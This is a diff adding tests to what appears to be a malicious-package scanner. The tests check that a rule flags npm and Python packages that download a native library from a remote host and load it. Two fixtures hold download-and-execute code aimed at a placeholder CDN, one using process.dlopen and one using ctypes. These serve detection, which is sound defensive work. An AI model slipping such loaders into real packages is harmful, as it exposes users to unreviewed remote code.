@@ -632,3 +632,46 @@ def test_an_app_registering_itself_at_logon_is_no_download_drop(engine: Engine) 
     )
     evidence = run_rule(engine, persistence_rule, sdist({"tidy_strings/autostart.py": code}))
     assert evidence[0]["signatures"] == ["installs itself to run at logon"]
+
+
+NATIVE_JS = (
+    "const https = require('https'), fs = require('fs'), os = require('os');\n"
+    "const dest = os.tmpdir() + '/helper.node';\n"
+    "https.get('https://cdn.example.net/helper-' + process.platform + '.node', (res) => {\n"
+    "  res.pipe(fs.createWriteStream(dest)).on('finish', () => {\n"
+    "    const m = { exports: {} };\n    process.dlopen(m, dest);\n    m.exports.start();\n"
+    "  });\n});\n"
+)
+
+
+def test_a_native_addon_downloaded_and_loaded_at_run_time_is_reported(engine: Engine) -> None:
+    evidence = run_rule(
+        engine, executes_code_at_remote_url_rule, npm_tarball({"index.js": NATIVE_JS})
+    )
+    assert evidence[0]["signatures"] == ["downloads a native library and loads it"]
+
+
+def test_a_native_library_downloaded_and_loaded_through_ctypes_is_reported(
+    engine: Engine,
+) -> None:
+    code = (
+        "import ctypes, os, tempfile, urllib.request\n"
+        "path = os.path.join(tempfile.gettempdir(), 'libhelper.so')\n"
+        "with open(path, 'wb') as f:\n"
+        "    f.write(urllib.request.urlopen('https://cdn.example.net/libhelper.so').read())\n"
+        "ctypes.CDLL(path).start()\n"
+    )
+    evidence = run_rule(
+        engine, executes_code_at_remote_url_rule, sdist({"tidy_strings/native.py": code})
+    )
+    assert evidence[0]["signatures"] == ["downloads a native library and loads it"]
+
+
+def test_an_addon_loaded_from_the_package_with_dlopen_is_no_download(engine: Engine) -> None:
+    loader = (
+        "const path = require('path');\nconst m = { exports: {} };\n"
+        "process.dlopen(m, path.join(__dirname, 'build/Release/addon.node'));\n"
+        "module.exports = m.exports;\n"
+    )
+    archive = npm_tarball({"index.js": loader})
+    assert run_rule(engine, executes_code_at_remote_url_rule, archive) is None
